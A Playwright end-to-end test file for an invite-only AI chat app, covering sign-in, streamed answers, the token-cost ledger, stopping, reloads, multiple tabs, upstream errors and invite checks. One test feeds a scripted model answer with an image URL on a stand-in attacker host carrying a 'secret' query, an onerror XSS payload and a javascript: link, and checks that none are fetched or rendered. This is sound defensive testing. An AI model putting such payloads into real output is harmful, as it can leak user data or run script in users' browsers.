import type { Page } from "@playwright/test";
import { runAsAdmin } from "../gateway.ts";
import { expect, test } from "./members.ts";

/** Numbered words: a lost, doubled or moved piece changes the text. */
const words = (count: number): string => Array.from({ length: count }, (_, index) => `w${index}`).join(" ");

function scripted(text: string, script: object): string {
  return `[[script ${JSON.stringify({ text, ...script })}]]`;
}

async function ask(page: Page, prompt: string): Promise<void> {
  await page.getByRole("textbox", { name: "Message" }).fill(prompt);
  await page.getByRole("button", { name: "Send" }).click();
}

const answer = (page: Page) => page.getByRole("article", { name: "Answer" }).last();
const ledgerLine = (page: Page) => answer(page).getByRole("list", { name: "Usage of this answer" });

test("an invited person sets a password, chats, signs out and signs in again", async ({
  memberPage: page,
  account,
}) => {
  await ask(page, scripted("A **bold** answer.", {}));
  await expect(answer(page)).toContainText("A bold answer.");
  await page.getByRole("button", { name: "Menu and account" }).click();
  await page.getByRole("menuitem", { name: "Sign out" }).click();
  await page.getByLabel("E-mail").fill(account.email);
  await page.getByLabel("Password", { exact: true }).fill("not-the-password");
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByText(/wrong|incorrect|not right|does not match/i)).toBeVisible();
  await page.getByLabel("Password", { exact: true }).fill(account.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByRole("textbox", { name: "Message" })).toBeVisible();
});

test("an answer streams word by word, and its cost line equals the ledger", async ({ memberPage: page }) => {
  const usage = { input_tokens: 1234, cache_read_input_tokens: 100, output_tokens: 567 };
  await ask(page, scripted(words(200), { deltas: 100, deltaMs: 20, usage }));
  await expect(answer(page)).toContainText("w20");
  expect(await answer(page).textContent()).not.toContain("w199");
  await expect(answer(page)).toContainText(words(200));
  await expect(ledgerLine(page)).toContainText("1,234 in");
  await expect(ledgerLine(page)).toContainText("100 cache read");
  await expect(ledgerLine(page)).toContainText("567 out");
  // 1234 × $2 + 100 × $0.10 + 567 × $10 per million tokens.
  await expect(ledgerLine(page)).toContainText("$0.008148");
});

test("stop ends the answer, keeps what was written, and settles it", async ({ memberPage: page }) => {
  await ask(page, scripted(words(400), { deltas: 400, deltaMs: 50 }));
  await expect(answer(page)).toContainText("w10");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(answer(page).getByText("Stopped", { exact: true })).toBeVisible();
  await expect(answer(page)).toContainText("w0 w1 w2");
  await expect(ledgerLine(page)).toContainText("estimated");
});

test("a reload in the middle of an answer loses and doubles no character", async ({ memberPage: page }) => {
  await ask(page, scripted(words(300), { deltas: 300, deltaMs: 20 }));
  await expect(answer(page)).toContainText("w30");
  await page.reload();
  await expect(answer(page)).toContainText("w60");
  expect(await answer(page).textContent()).not.toContain("w299");
  await expect(answer(page)).toContainText(words(300));
  await expect(ledgerLine(page)).toContainText("out");
  await page.reload();
  await expect(answer(page)).toContainText(words(300));
});

test("a second tab follows an answer that the first one started", async ({ memberPage: page, context }) => {
  await ask(page, scripted(words(300), { deltas: 300, deltaMs: 20 }));
  await expect(answer(page)).toContainText("w10");
  await expect(page).toHaveURL(/\/chat\/.+/);
  const second = await context.newPage();
  await second.goto(page.url());
  await expect(answer(second)).toContainText("w40");
  await expect(answer(second)).toContainText(words(300));
  await expect(answer(page)).toContainText(words(300));
});

test("an upstream error is shown with its type and can be retried", async ({ memberPage: page }) => {
  await ask(page, `[[script {"status":529,"error":{"type":"overloaded_error","message":"Too busy today"}}]]`);
  await expect(answer(page)).toContainText("Too busy today");
  await expect(answer(page)).toContainText("overloaded_error");
  await expect(answer(page).getByRole("button", { name: /retry|try again/i })).toBeVisible();
});

test("a model's image is never fetched from elsewhere, and its script never runs", async ({
  memberPage: page,
}) => {
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) foreign.push(request.url());
  });
  await ask(
    page,
    scripted(
      "![x](https://evil.example/i.png?q=secret) <img src=https://evil.example/2.png onerror=alert(1)> [link](javascript:alert(1)) end",
      { deltas: 40, deltaMs: 10 },
    ),
  );
  await expect(answer(page)).toContainText("end");
  await expect(ledgerLine(page)).toContainText("out");
  expect(foreign).toEqual([]);
  expect(await answer(page).locator("img[src^='http'], a[href^='javascript']").count()).toBe(0);
});

test("nobody signs up without an invite", async ({ page }) => {
  await page.goto("/invite/0000000000000000000000000000000000000000000");
  await expect(page.getByText("npx convex run admin:invite")).toBeVisible();
  const { url } = await runAsAdmin<{ url: string }>("admin:invite", {
    email: "used@example.com",
    role: "viewer",
  });
  expect(url).toContain("/invite/");
});
